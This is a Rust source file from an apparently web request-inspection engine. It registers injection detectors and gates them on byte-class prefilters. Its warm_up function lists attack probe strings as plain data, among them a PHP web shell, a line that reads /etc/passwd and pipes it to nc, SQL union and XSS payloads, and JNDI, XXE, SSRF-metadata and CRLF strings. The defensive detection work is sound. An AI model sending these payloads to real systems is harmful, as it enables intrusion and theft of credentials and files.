//! Detectors, one per file. Value-level detectors see one decoded view of one value and return
//! a [`Finding`] or nothing; request-level detectors see the request. None of them decides an
//! action: that is [`crate::policy`].

pub mod cmdi;
mod cmdi_line_protocol;
mod cmdi_option;
mod cmdi_powershell;
pub mod code_injection;
mod code_injection_java_base64;
mod code_injection_php_ini;
mod code_injection_pickle;
pub mod crlf;
pub mod decoy;
pub mod jndi;
pub mod ldapi;
pub(crate) mod needle;
pub mod nosqli;
pub mod orm_lookup;
pub mod path_traversal;
pub mod prefilter;
pub mod rate;
pub mod rfi;
pub mod session_fixation;
pub mod spoofing;
pub mod sqli;
pub mod ssrf;
pub mod ssti;
mod ssti_lone_tag;
mod ssti_object_walk;
mod ssti_rebuilt_names;
pub mod unsafe_upload;
pub mod xss;
pub mod xxe;
mod xxe_cdata;
pub mod ztaa;

use crate::check::Check;
use crate::finding::Finding;

use prefilter::{Classes, Needs};

/// A detector that needs no state: one function of the text.
pub type ValueFn = fn(&str) -> Option<Finding>;

/// What the command-injection detector needs (see [`STATELESS`] for the others): more than a
/// bare word, or a bare word that names a command ([`cmdi::CmdiDetector::names_a_command`]).
pub const CMDI_NEEDS: Classes = Classes::BEYOND_WORD;

/// Beyond a bare word, the command-injection detector also needs a byte other than a space or
/// a non-ASCII one: every byte its shapes, lexer and mail reading stop at is ASCII, and a
/// first word of non-ASCII bytes names no command unless a name on PATH has one
/// ([`cmdi::CmdiDetector::names_non_ascii`]). Text in other scripts needs none of it.
const CMDI_ALSO: Classes = Classes(!(Classes::SPACE.0 | Classes::NON_ASCII_ALL.0));

/// A byte beyond plain words (see [`Classes::PLAIN_WORDS`]): without one, the
/// command-injection detector has only its first word to read
/// ([`cmdi::CmdiDetector::plain_words_may_run`]).
const CMDI_BEYOND_PLAIN: Classes = Classes(!Classes::PLAIN_WORDS.0);

/// Whether `cmdi` reads a view whose classes are `present`: the test [`ValueDetectors`] makes
/// before running it.
pub fn cmdi_reads(cmdi: &cmdi::CmdiDetector, present: Classes, text: &str) -> bool {
    if !present.any(CMDI_NEEDS) {
        cmdi.names_a_command(text)
    } else if !(cmdi.names_non_ascii() || present.any(CMDI_ALSO)) {
        false
    } else if !present.any(CMDI_BEYOND_PLAIN) {
        cmdi.plain_words_may_run(text)
    } else {
        true
    }
}

/// The ASCII bytes of an address or a URL the SSRF detector reads (see [`STATELESS`]).
const SSRF_ASCII: Classes = crate::prefilter_set![
    COLON, DOT, DIGIT, DASH, LBRACKET, PERCENT, SLASH, BACKSLASH, AT, QMARK, HASH
];

/// What the SQLi detector's first pass (`sqli::prefilter::scan`) stops at: word letters (of a
/// keyword), signal bytes, and the lead bytes of typographic quotes. A value with none of them
/// has no SQL signal and no other reading.
const SQL_SIGNALS: Classes = crate::prefilter_set![
    LETTER, UNDERSCORE, SQUOTE, DQUOTE, EQ, LT, GT, HASH, SEMI, LPAREN, RPAREN, DASH, STAR, PIPE,
    AMP, AT, COLON, LEAD_E2, LEAD_EF, QUOTE_LEAD
];

/// Every stateless value detector: its check, the byte classes a view must contain for it to
/// run at all (see [`prefilter::Needs`]), and the function.
pub const STATELESS: [(Check, Needs, ValueFn); 13] = [
    // Separators (also their encoded, wide and look-alike spellings: their lead bytes are E2
    // and EF), `..`, `0x` escapes and short dotted file names.
    (
        Check::PathTraversal,
        Needs::any(crate::prefilter_set![
            SLASH, BACKSLASH, PERCENT, CONTROL, LEAD_E2, LEAD_EF, DOT, DIGIT
        ]),
        path_traversal::inspect,
    ),
    // A bare word (letters, digits, `-`, `_`) is no statement; beyond one, the detector's own
    // first pass (`sqli::prefilter`) needs a keyword's letters or a signal byte.
    (
        Check::Sqli,
        Needs::any(Classes::BEYOND_WORD).also(SQL_SIGNALS),
        sqli::inspect,
    ),
    // An ORM lookup path joins its segments with `__` (see [`orm_lookup`]): reported as SQL
    // injection, so it runs where that check is on.
    (
        Check::Sqli,
        Needs::any(crate::prefilter_set![UNDERSCORE]),
        orm_lookup::inspect,
    ),
    // Every shape needs one of `<>"'(:{&=[` or a backtick, or a `+` (a UTF-7 run) or `/` (a
    // comment): the detector's own first test (`xss::prefilter`), here read from the classes.
    (
        Check::Xss,
        Needs::any(crate::prefilter_set![
            LT, GT, DQUOTE, SQUOTE, BACKTICK, LPAREN, COLON, LBRACE, AMP, EQ, LBRACKET, PLUS, SLASH
        ]),
        xss::inspect,
    ),
    // A scheme or port (`:`), an address (digits, dots, brackets, wide dots) or a bare internal
    // name with a port, path or suffix ("instance-data", "localhost4", "host/", "localhost…").
    // Non-ASCII bytes count only beside an ASCII letter: every internal name is ASCII, and an
    // address without one needs a digit.
    (
        Check::Ssrf,
        Needs::any(SSRF_ASCII.or(Classes::NON_ASCII)).also(SSRF_ASCII.or(Classes::LETTER)),
        ssrf::inspect,
    ),
    // Delimiters ({{ {% ${ #{ *{ <% @( [[ {# {$), directives (<#, #set, $class,
    // freemarker.*) and bare dunder chains.
    (
        Check::Ssti,
        Needs::any(crate::prefilter_set![
            LBRACE, LT, AT, LBRACKET, PERCENT, HASH, DOLLAR, DOT, UNDERSCORE
        ]),
        ssti::inspect,
    ),
    // Operators start with `$`; JS needs quotes, separators or a `db.` call.
    (
        Check::Nosqli,
        Needs::any(crate::prefilter_set![
            DOLLAR, DOT, SQUOTE, DQUOTE, SEMI, PIPE, AMP, EQ, LPAREN, LBRACE, LBRACKET
        ]),
        nosqli::inspect,
    ),
    // `${`, or its `\u0024` / `&#36;` spellings.
    (
        Check::Jndi,
        Needs::any(crate::prefilter_set![DOLLAR, BACKSLASH, AMP]),
        jndi::inspect,
    ),
    // Markup or a parameter entity.
    (
        Check::Xxe,
        Needs::any(crate::prefilter_set![LT, PERCENT]),
        xxe::inspect,
    ),
    // Every break-out closes a filter with `)`.
    (
        Check::Ldapi,
        Needs::any(crate::prefilter_set![RPAREN]),
        ldapi::inspect,
    ),
    // CR/LF, the wide characters some servers truncate to them (their last byte is 8A or 8D),
    // or a bare HTTP request line.
    (
        Check::Crlf,
        Needs::any(crate::prefilter_set![CONTROL, BREAK_TAIL, SLASH]),
        crlf::inspect,
    ),
    // A scheme, a UNC path or a protocol-relative URL.
    (
        Check::Rfi,
        Needs::any(crate::prefilter_set![COLON, SLASH, BACKSLASH]),
        rfi::inspect,
    ),
    // The detector's own gate, read from the classes: a trigger byte (one of `(<{[@$%#"':`,
    // a backtick or a line feed), `=`, a `.` (dotted names), or what serialization magics and
    // base64 tokens hold: an upper-case letter or a digit (`rO0AB`, `aced0005`, mixed-case
    // base64), U+FFFD (lead byte EF) or the NUL of the Latin-1 magic. Lower-case words and
    // text in other scripts have none.
    (
        Check::CodeInjection,
        Needs::any(crate::prefilter_set![
            LPAREN, LT, LBRACE, LBRACKET, AT, DOLLAR, PERCENT, HASH, BACKTICK, CONTROL, DQUOTE,
            SQUOTE, COLON, EQ, DOT, UPPER, DIGIT, LEAD_EF
        ]),
        code_injection::inspect,
    ),
];

/// The enabled value-level detectors, built once at startup.
pub struct ValueDetectors {
    cmdi: Option<cmdi::CmdiDetector>,
    stateless: Vec<(Check, Needs, ValueFn)>,
    /// The unsafe-upload check runs only on values that name an uploaded file.
    upload: bool,
}

impl ValueDetectors {
    /// Builds the detectors for which `enabled` says yes.
    pub fn new(enabled: impl Fn(Check) -> bool) -> Self {
        ValueDetectors {
            cmdi: enabled(Check::Cmdi).then(cmdi::CmdiDetector::from_env),
            stateless: STATELESS
                .iter()
                .copied()
                .filter(|(c, _, _)| enabled(*c))
                .collect(),
            upload: enabled(Check::UnsafeUpload),
        }
    }

    /// How a value at `location` names an uploaded file, when the unsafe-upload check is on
    /// and it does: then [`ValueDetectors::inspect_upload`] also runs on its views.
    pub fn upload_field(
        &self,
        location: &crate::extract::Location<'_>,
    ) -> Option<unsafe_upload::UploadField> {
        if self.upload {
            unsafe_upload::upload_field(location)
        } else {
            None
        }
    }

    /// Runs the unsafe-upload check on one view of a value that names an uploaded file.
    pub fn inspect_upload(
        &self,
        field: unsafe_upload::UploadField,
        text: &str,
        out: &mut Vec<Finding>,
    ) {
        out.extend(unsafe_upload::inspect_field(field, text));
    }

    /// Builds every lazily compiled table (automata, word lists, models) now, by inspecting one
    /// probe per detector family, so the application's first requests do not pay for them
    /// (about 20 ms in all, measured on the first values through a fresh engine).
    pub fn warm_up(&self, mut views: impl FnMut(&str) -> Vec<String>) {
        const PROBES: [&str; 17] = [
            "q=%3Cx%3E&r=&lt;a&gt;&s=\u{ff1c}&t=PHNjcmlwdD4=",
            "at 2:00 \"ls\"; cat /etc/passwd | nc x 1",
            "x=1&allow_url_include=On",
            "java.io.File rO0AB cnVudGltZQ== T(java.lang.Runtime)",
            "<?php system($_GET['c']); ?>",
            "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
            "1' union select password from users-- ",
            "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "javascript:alert(1) style=x:expression(1)",
            "../../etc/passwd ..\\windows\\win.ini",
            "http://169.254.169.254/latest gopher://127.0.0.1/",
            "${jndi:ldap://x/a} ${lower:j}",
            "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><x>&a;</x>",
            "*)(uid=*))(|(uid=*",
            "{\"$ne\": 1, \"$where\": \"sleep(1)\"}",
            "a%0d%0aSet-Cookie: x=1",
            "\r\nMAIL FROM:<a@b.c> HELO x.y",
        ];
        let mut found = Vec::new();
        for p in PROBES {
            self.inspect(p, &mut found);
            for v in views(p) {
                self.inspect(&v, &mut found);
            }
            found.clear();
        }
    }

    /// Runs every enabled value detector on one view; pushes findings.
    pub fn inspect(&self, text: &str, out: &mut Vec<Finding>) {
        self.inspect_classified(text, Classes::of(text), out);
    }

    /// [`Self::inspect`] of a view whose classes the caller has: `present` must be
    /// `Classes::of(text)`. The per-value pipeline reads them once for the detectors and the
    /// decoders (`decode::expand_classified`).
    pub fn inspect_classified(&self, text: &str, present: Classes, out: &mut Vec<Finding>) {
        match number(text) {
            Some(Number::Plain) => return,
            // "127.1" is 127.0.0.1 to inet_aton: only the address reading remains.
            Some(Number::Dotted) => {
                for (check, _, f) in &self.stateless {
                    if *check == Check::Ssrf {
                        out.extend(f(text));
                    }
                }
                return;
            }
            None => {}
        }
        if let Some(c) = &self.cmdi {
            if cmdi_reads(c, present, text) {
                // `push`, not `extend`: the latter's reserve on an `Option` costs more than the
                // test of a detector that finds nothing.
                if let Some(finding) = c.inspect(text) {
                    out.push(finding);
                }
            }
        }
        for (_, needs, f) in &self.stateless {
            if needs.met(present) {
                if let Some(finding) = f(text) {
                    out.push(finding);
                }
            }
        }
    }

    /// Which value checks are on (banner).
    pub fn enabled(&self) -> Vec<Check> {
        let mut v: Vec<Check> = self.cmdi.iter().map(|_| Check::Cmdi).collect();
        // Two detectors report SQL injection (sqli and orm_lookup): the check is named once.
        for (c, _, _) in &self.stateless {
            if !v.contains(c) {
                v.push(*c);
            }
        }
        if self.upload {
            v.push(Check::UnsafeUpload);
        }
        v
    }
}

/// What kind of number a view is, if it is one.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Number {
    /// "42", "-3", "1e-7": no detector reads anything in one, and JSON bodies are full of them.
    Plain,
    /// "89.95", "127.1": also a short form of an IPv4 address, so SSRF still reads it.
    Dotted,
}

/// A decimal number as JSON bodies and forms carry them; dotted quads and hex are not.
pub fn number(text: &str) -> Option<Number> {
    // A number starts with a digit, a sign or a point (`f64` parses no other start of these
    // bytes): words and prose end here, before any scan.
    if !matches!(
        text.as_bytes().first(),
        Some(b'0'..=b'9' | b'.' | b'-' | b'+')
    ) {
        return None;
    }
    number_read(text)
}

/// [`number`] without its first-byte test.
fn number_read(text: &str) -> Option<Number> {
    let b = text.as_bytes();
    let numeric = !b.is_empty()
        && b.len() <= 32
        && b.iter().any(u8::is_ascii_digit)
        && b.iter()
            .all(|c| c.is_ascii_digit() || matches!(c, b'.' | b'-' | b'+' | b'e' | b'E'))
        && text.parse::<f64>().is_ok();
    match (numeric, b.contains(&b'.')) {
        (false, _) => None,
        (true, false) => Some(Number::Plain),
        (true, true) => Some(Number::Dotted),
    }
}

#[cfg(test)]
mod tests {
    use super::{number, number_read, Number};

    #[test]
    fn the_first_byte_test_changes_no_answer() {
        // Every string of up to five bytes of an alphabet of number bytes and others.
        let alphabet = ['0', '7', '.', '-', '+', 'e', 'E', 'x', ' '];
        let mut texts = vec![String::new()];
        let mut numbers = 0;
        for _ in 0..5 {
            let longer: Vec<String> = texts
                .iter()
                .flat_map(|t| alphabet.iter().map(move |c| format!("{t}{c}")))
                .collect();
            for t in &longer {
                assert_eq!(number(t), number_read(t), "{t:?}");
                numbers += usize::from(number_read(t).is_some());
            }
            texts = longer;
        }
        assert!(numbers > 500, "{numbers}");
    }

    #[test]
    fn numbers_are_told_from_addresses_and_words() {
        for n in ["42", "-3", "1e-7", "+1", "2130706433"] {
            assert_eq!(number(n), Some(Number::Plain), "{n}");
        }
        for n in ["89.95", "0.5", "127.1", "1."] {
            assert_eq!(number(n), Some(Number::Dotted), "{n}");
        }
        for t in [
            "",
            "127.0.0.1",
            "0x7f000001",
            "1-1",
            "e",
            "inf",
            "NaN",
            "--1",
            "12e",
            "e5",
            "E5",
            " 1",
            "shoes",
        ] {
            assert_eq!(number(t), None, "{t}");
        }
    }
}
